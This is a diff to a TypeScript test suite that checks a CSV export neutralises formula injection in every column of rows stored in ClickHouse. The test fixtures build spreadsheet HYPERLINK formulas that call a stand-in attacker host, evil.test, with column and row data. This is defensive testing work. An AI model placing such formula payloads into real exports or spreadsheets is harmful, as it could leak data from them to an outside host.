@@ -92,9 +92,9 @@ describe('CSV formula injection', () => {
   it('neutralises a formula in every downloaded column, on rows as stored in ClickHouse', async () => {
     const { token, accountId } = await gw.signUp();
     const payload = (i: number, column: string) =>
-      `${TRIGGERS[i % TRIGGERS.length]}HYPERLINK("http://evil.test/?${column}","x")`;
+      `${TRIGGERS[i % TRIGGERS.length]}HYPERLINK("http://evil.test/?${column}&row=${i}","x")`;
     // Every stored value a CSV column is made of is hostile: strings start with a trigger, numbers
-    // are negative (a leading "-" is one too).
+    // are negative (a leading "-" is one too), the phone is "+" anyway.
     const id = await storedBatchOf(gw.deps, accountId, TRIGGERS.length * 2, {
       row: (r, i) => ({
         ...r,
@@ -105,7 +105,8 @@ describe('CSV formula injection', () => {
         enriched_title: payload(i, 'title'),
         email: payload(i, 'email'),
         email_status: payload(i, 'email_status'),
-        phone_e164: payload(i, 'phone'),
+        // Stored E.164 is shown formatted ("+1-202-..."): a leading "+" on every row.
+        phone_e164: '+12025550199',
         phone_status: payload(i, 'phone_status'),
         enriched_company_name: payload(i, 'company_name'),
         domain: payload(i, 'domain'),
@@ -149,7 +150,8 @@ describe('CSV formula injection', () => {
       if (!numeric.has(column) && column !== 'phone')
         expect([...triggers].sort(), column).toEqual([...TRIGGERS].sort());
     }
-    const first = rows[0] as string[];
+    // Rows come in row_index order, here the reverse of i (negative indices).
+    const first = rows.find((r) => r[CSV_COLUMNS.indexOf('full_name')]?.includes('&row=0"')) as string[];
     expect(first[CSV_COLUMNS.indexOf('full_name')]).toBe(`'${payload(0, 'full_name')}`);
     expect(first[CSV_COLUMNS.indexOf('signals')]).toBe(`'${payload(0, 'signals')}; Series B`);
   });
